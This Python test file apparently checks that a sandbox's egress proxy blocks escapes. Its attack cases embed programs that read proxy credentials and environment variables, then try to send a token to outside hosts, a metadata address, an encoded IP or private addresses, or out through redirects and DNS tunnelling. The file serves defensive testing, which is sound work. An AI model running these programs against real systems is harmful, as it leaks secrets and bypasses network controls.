"""Case 23, through the egress proxy: what a challenge that may reach a host may not reach by it."""

from __future__ import annotations

from tests.hostile.attack import SUCCEEDED, Attack, Control, Facts
from tests.hostile.world import INSIDE, LISTED, LOOPBACK, METADATA, OTHER

_ASK = """
import base64, re, socket
from urllib.parse import urlsplit
proxy = urlsplit(rogue.server.config.proxy_url)
word = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
def ask(url, method="GET"):
    host = url if method == "CONNECT" else urlsplit(url).netloc
    lines = [f"{method} {url} HTTP/1.1", f"Host: {host}", f"Proxy-Authorization: Basic {word}", "", ""]
    answer = b""
    try:
        with socket.create_connection((proxy.hostname, proxy.port), timeout=8) as to:
            to.sendall("\\r\\n".join(lines).encode())
            while len(answer) < 4000 and (more := to.recv(4000)):
                answer += more
    except OSError as error:
        tell(url, error)
    text = answer.decode("latin-1")
    tell(url, text)
    return text
"""


def _attack(name: str, clause: str, program: str, control: Control, at: str) -> Attack:
    def won(facts: Facts) -> bool:
        return any(at in where for where in facts.trapped)

    return Attack(name, 23, clause, "challenge", _ASK + program, control, won, outcomes=SUCCEEDED)


_FROM_A_RUN = f"""
import os, socket
from urllib.parse import urlsplit
for name, value in os.environ.items():
    print(name, value)
proxy = urlsplit(os.environ.get("http_proxy") or "http://127.0.0.1:3128")
def ask(host, port, url):
    answer = b""
    try:
        with socket.create_connection((host, port), timeout=1) as to:
            to.sendall(f"GET {{url}} HTTP/1.1\\r\\nHost: {OTHER}\\r\\nConnection: close\\r\\n\\r\\n".encode())
            while more := to.recv(4000):
                answer += more
    except OSError as error:
        print(host, port, error)
    print(host, port, answer.decode("latin-1"))
ask(proxy.hostname, proxy.port, "http://{OTHER}/@TOKEN@")
for host, port in (("10.0.2.2", @GUEST_PORT@), ("127.0.0.1", 10000), ("{METADATA}", 80)):
    ask(host, port, "/@TOKEN@")
"""
_HOSTS = Control("hosts of the policy", "the proxy lets any host pass; all that is there are traps")

EGRESS = [
    _attack(
        "a host outside the policy",
        "outside-policy",
        f"""
ask("http://{OTHER}/@TOKEN@")
ask("http://{LISTED}.{OTHER}/@TOKEN@")
ask("http://{METADATA}/@TOKEN@")
ask("http://2852039166/@TOKEN@")
""",
        _HOSTS,
        OTHER,
    ),
    Attack(
        "a host outside the policy, from a run with network",
        23,
        "outside-policy",
        "submission",
        _FROM_A_RUN,
        _HOSTS,
        lambda facts: any(OTHER in where for where in facts.trapped),
        outcomes=SUCCEEDED,
        network=True,
    ),
    _attack(
        "a port outside the policy",
        "outside-policy",
        f'ask("http://{LISTED}:{LOOPBACK}/@TOKEN@")\n',
        Control("ports of the policy", "the proxy lets any port pass"),
        f" {LOOPBACK} ",
    ),
    _attack(
        "a listed host at a private address",
        "private-address",
        f'ask("http://{INSIDE}/@TOKEN@")\n',
        Control("public addresses", "the proxy connects to whatever a name resolves to"),
        METADATA,
    ),
    _attack(
        "a redirect out of the list",
        "redirect",
        f"""
answer = ask("http://{LISTED}/redirect/@TOKEN@")
found = re.search("(?i)location: ([^\\\\r]+)", answer)
tell("redirected:", bool(found))
if found:
    ask(found[1])
""",
        _HOSTS,
        OTHER,
    ),
    _attack(
        "DNS tunnelling through the proxy",
        "dns-tunnel",
        f"""
ask("http://@TOKEN@.{OTHER}/")
ask("@TOKEN@.{OTHER}:80", "CONNECT")
""",
        _HOSTS,
        "udp",
    ),
]
